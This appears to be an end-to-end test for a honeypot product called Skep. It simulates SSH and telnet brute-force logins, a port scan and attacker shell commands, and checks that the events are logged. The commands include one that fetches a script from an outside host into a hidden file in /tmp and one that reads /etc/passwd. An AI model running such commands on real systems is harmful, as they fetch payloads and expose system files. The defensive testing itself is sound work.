import { Shell, nmap, sshLogin } from '../support/attacks';
import { expect, live, open, panel, rows, test } from '../support/fixtures';
import { password } from '../support/skep';

test.use({ unattended: false, permissions: ['clipboard-read', 'clipboard-write'] });

test('from an empty data folder to the first caught attacks', async ({ skep, page }) => {
  await test.step('set-up', async () => {
    await page.goto(skep.url);
    await expect(page).toHaveURL(`${skep.url}/setup`);
    await expect(page.getByRole('heading', { level: 1, name: 'Welcome to Skep' })).toBeVisible();
    await page.getByLabel('Password', { exact: true }).fill(password);
    await page.getByLabel('Repeat password').fill(password);
    await page.getByLabel('E-mail').fill('admin@example.org');
    await expect(page.getByLabel('First group')).toHaveValue('default');
    await page.getByRole('button', { name: 'Start' }).click();
    await expect(page).not.toHaveURL(/\/(setup|login)/);
    await page.goto(`${skep.url}/setup`);
    await expect(page, 'the set-up page is gone').not.toHaveURL(/\/setup/);
  });

  await test.step('a sensor enrols with the copied command', async () => {
    await page.getByRole('link', { name: 'Sensors' }).first().click();
    await expect(page.getByRole('heading', { level: 1, name: 'Sensors' })).toBeVisible();
    await live(page);
    await page.getByRole('button', { name: 'Add sensor' }).first().click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Name').fill('second');
    await dialog.getByLabel('Group').selectOption({ label: 'default' });
    await dialog.getByRole('button', { name: 'Add', exact: true }).click();
    const command = await dialog.locator('#enrol-command').innerText();
    await dialog.getByRole('button', { name: 'Copy' }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(command);
    await page.keyboard.press('Escape');
    const sensor = page.getByRole('row').filter({ hasText: 'second' });
    await expect(sensor).toContainText(/waiting for first contact/i);
    await skep.startSensorBy(command);
    await expect(sensor).toContainText(/online/i);
  });

  await page.getByRole('link', { name: 'Events' }).first().click();
  await expect(page.getByRole('heading', { level: 1, name: 'Events' })).toBeVisible();
  await live(page);
  // A reload would make a new document, without this.
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));

  await test.step('ssh, wrong password', async () => {
    expect(await sshLogin(skep.ports.ssh, 'root', 'not-the-one')).not.toBe(0);
    const row = rows(page, 'root / not-the-one');
    await expect(row).toHaveCount(1);
    await expect(row).toContainText('ssh');
    await expect(row).toContainText('second');
    await expect(row).toContainText('127.0.0.1');
    await open(page, row);
    const tried = panel(page, 'Credentials').getByRole('row').filter({ hasText: 'not-the-one' });
    await expect(tried.getByText('root', { exact: true })).toBeVisible();
    await expect(tried.getByText('not-the-one', { exact: true })).toBeVisible();
    await expect(tried).toContainText(/refused/i);
    await page.getByRole('link', { name: 'Events' }).first().click();
  });

  const sessions = {
    ssh: { login: ['root', '123456'], start: () => Shell.ssh(skep.ports.ssh, 'root', '123456') },
    telnet: { login: ['admin', 'admin'], start: () => Shell.telnet(skep.ports.telnet, 'admin', 'admin') },
  } as const;
  for (const [service, { login, start }] of Object.entries(sessions)) {
    await test.step(`${service}, right password and three commands, read while the session is open`, async () => {
      const shell = await start();
      const row = rows(page, login.join(' / '));
      await expect(row).toHaveCount(1);
      await expect(row).toContainText(service);
      await open(page, row);
      await expect(page.getByText('still open')).toBeVisible();
      const [user, secret] = login;
      const accepted = panel(page, 'Credentials').getByRole('row').filter({ hasText: secret });
      await expect(accepted.getByText(secret, { exact: true }).first()).toBeVisible();
      await expect(accepted.getByText(user, { exact: true }).first()).toBeVisible();
      await expect(accepted).toContainText(/accepted/i);
      for (const command of ['uname -a', 'cat /etc/passwd | grep "root"', 'wget http://203.0.113.7/x.sh -O /tmp/.x']) {
        await shell.type(command);
        await expect(panel(page, 'Commands').getByText(command, { exact: true })).toBeVisible();
      }
      await expect(page.getByText('still open'), 'all this while the attacker is connected').toBeVisible();
      await shell.leave();
      await expect(page.getByText('still open')).toBeHidden();
      await page.getByRole('link', { name: 'Events' }).first().click();
    });
  }

  await test.step('a port scan is one event with its ports', async () => {
    await nmap(skep.ports.catchAll);
    const row = rows(page, `${skep.ports.catchAll.length} ports scanned`);
    await expect(row).toHaveCount(1);
    await expect(row).toContainText(/scan/i);
    await open(page, row);
    for (const port of skep.ports.catchAll) {
      await expect(panel(page, 'Timeline')).toContainText(String(port));
    }
  });

  expect(await page.evaluate(() => 'sameDocument' in window), 'no reload since the list was opened').toBe(true);
});
